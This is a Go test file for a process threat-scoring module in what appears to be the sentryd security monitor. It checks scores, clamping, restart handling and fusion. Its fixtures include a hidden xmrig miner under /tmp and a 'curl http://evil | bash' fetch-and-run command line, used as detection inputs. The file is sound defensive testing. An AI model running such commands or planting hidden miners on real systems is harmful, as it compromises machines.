package intel

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sentryd/sentryd/internal/model"
)

func TestFirstSeenAccumulation(t *testing.T) {
	t.Run("zero cpu long duration under tmp with keyword", func(t *testing.T) {
		p := model.ProcessInfo{
			PID: 100, PPID: 1,
			Exe:     "/tmp/.hidden/xmrig",
			Cmdline: "/tmp/.hidden/xmrig --stratum pool.example.com",
		}
		score := Score(p, 900, nil)
		// cpu is zero in ProcessInfo, so no cpu points; duration>=600 -> 0.2; keyword -> 0.2; tmp -> 0.2; ppid 1 -> 0
		assert.InDelta(t, 0.6, score, 0.001)
	})

	t.Run("system bin dampens score", func(t *testing.T) {
		p := model.ProcessInfo{PID: 1, PPID: 0, Exe: "/usr/bin/worker", CPUPercent: 35}
		score := Score(p, 0, nil)
		assert.InDelta(t, 0.12, score, 0.001)
	})

	t.Run("clamped at one", func(t *testing.T) {
		p := model.ProcessInfo{
			PID: 5, PPID: 4,
			Exe:        "/dev/shm/x",
			Cmdline:    "curl http://evil | bash -c run",
			CPUPercent: 95,
		}
		score := Score(p, 900, nil)
		assert.Equal(t, float32(1.0), score)
	})
}

func TestRestartBranch(t *testing.T) {
	prior := &model.SuspiciousRecord{PID: 10, ThreatConfidence: 0.5, SpawnCount: 1}
	p := model.ProcessInfo{PID: 11}
	score := Score(p, 0, prior)
	require.InDelta(t, 0.7, score, 0.001)

	prior2 := &model.SuspiciousRecord{PID: 10, ThreatConfidence: 0.5, SpawnCount: 5}
	score2 := Score(model.ProcessInfo{PID: 10}, 0, prior2)
	require.InDelta(t, 0.6, score2, 0.001)
}

func TestFusion(t *testing.T) {
	assert.InDelta(t, 0.7, FuseNPM(0.4, 1.0), 0.001)
	assert.InDelta(t, 1.0, FuseNPM(0.9, 1.0), 0.001)
	assert.InDelta(t, 0.6, FuseReact(0.4, 1.0), 0.001)
}

func TestDurationSince(t *testing.T) {
	base := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	now := base.Add(10 * time.Minute)
	assert.Equal(t, int64(600), DurationSince(base, now))
}
